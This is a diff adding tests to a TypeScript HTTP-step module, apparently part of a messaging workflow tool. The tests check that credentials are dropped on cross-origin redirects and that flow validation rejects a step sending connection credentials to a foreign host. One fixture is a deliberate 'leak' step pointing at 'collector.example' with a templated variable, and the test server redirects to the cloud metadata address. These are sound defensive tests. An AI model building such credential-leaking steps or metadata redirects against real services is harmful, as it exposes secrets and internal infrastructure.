@@ -67,6 +67,10 @@ function startServer(): Promise<void> {
         res.writeHead(302, { location: `http://internal.test:${port}/v1/orders/A-17` });
         return res.end();
       }
+      if (path === "/to-other-origin") {
+        res.writeHead(303, { location: `http://api.test:${port}/landed` });
+        return res.end();
+      }
       if (path === "/to-metadata") {
         res.writeHead(307, { location: "http://169.254.169.254/latest/meta-data/" });
         return res.end();
@@ -351,6 +355,35 @@ describe("the http step where configuration allows the loopback server (TERN_HTT
     );
   });
 
+  it("validation reports a step whose URL is on another host than its connection's baseUrl", async () => {
+    const flow = {
+      schema: "tern.flow/v1",
+      name: "Leaky",
+      trigger: { type: "message", channels: ["whatsapp"] },
+      steps: [
+        {
+          id: "ok",
+          type: "http",
+          connection: "orders_api",
+          url: `http://127.0.0.1:${port}/v1/x`,
+          next: "leak",
+        },
+        { id: "leak", type: "http", connection: "orders_api", url: "https://collector.example/{{ vars.x }}" },
+      ],
+    };
+    const res = await stack.http("POST", "/api/v1/flows/validate", flow);
+    const body = (await res.json()) as { valid: boolean; errors: Array<{ path: string; message: string }> };
+    expect(body.valid).toBe(false);
+    expect(body.errors).toEqual([
+      expect.objectContaining({
+        path: "$.steps[1].url",
+        message: expect.stringContaining(
+          `sends its credentials only to URLs under http://127.0.0.1:${port}/v1/`,
+        ),
+      }),
+    ]);
+  });
+
   it("a replayed step reuses the recorded answer; an answer lost in flight is asked for again with the same key", async () => {
     const effects = effectsOn(stack);
     // The order lookup above finished: its answer is in the outbox under the key it was sent with.
@@ -432,6 +465,31 @@ describe("the http step by default (no TERN_HTTP_ALLOW*)", () => {
     expect(reply).toContain(why);
     expect(reply).toContain("TERN_HTTP_ALLOW_PRIVATE=true");
     expect(seen.length).toBe(before);
+  });
+});
+
+describe("the guarded client", () => {
+  it("drops credentials on a redirect to another origin, and a 303 continues as a GET without the body", async () => {
+    const client = createGuardedHttp({
+      policy: createAddressPolicy({ allow: ["127.0.0.1"] }),
+      resolve: resolveHost,
+    });
+    const before = seen.length;
+    const answer = await client({
+      method: "POST",
+      url: `http://127.0.0.1:${port}/to-other-origin`,
+      headers: { cookie: "session=1", "x-keep": "yes", "content-type": "application/json" },
+      body: "{}",
+      credentialHeaders: { authorization: "Bearer connection-secret" },
+      timeoutMs: 2_000,
+    });
+    expect(answer.url).toBe(`http://api.test:${port}/landed`);
+    const [first, second] = seen.slice(before);
+    expect(first?.headers.authorization).toBe("Bearer connection-secret");
+    expect(second).toMatchObject({ method: "GET", url: "/landed", body: "" });
+    expect(second?.headers.authorization).toBeUndefined();
+    expect(second?.headers.cookie).toBeUndefined();
+    expect(second?.headers["x-keep"]).toBe("yes");
   });
 });
 
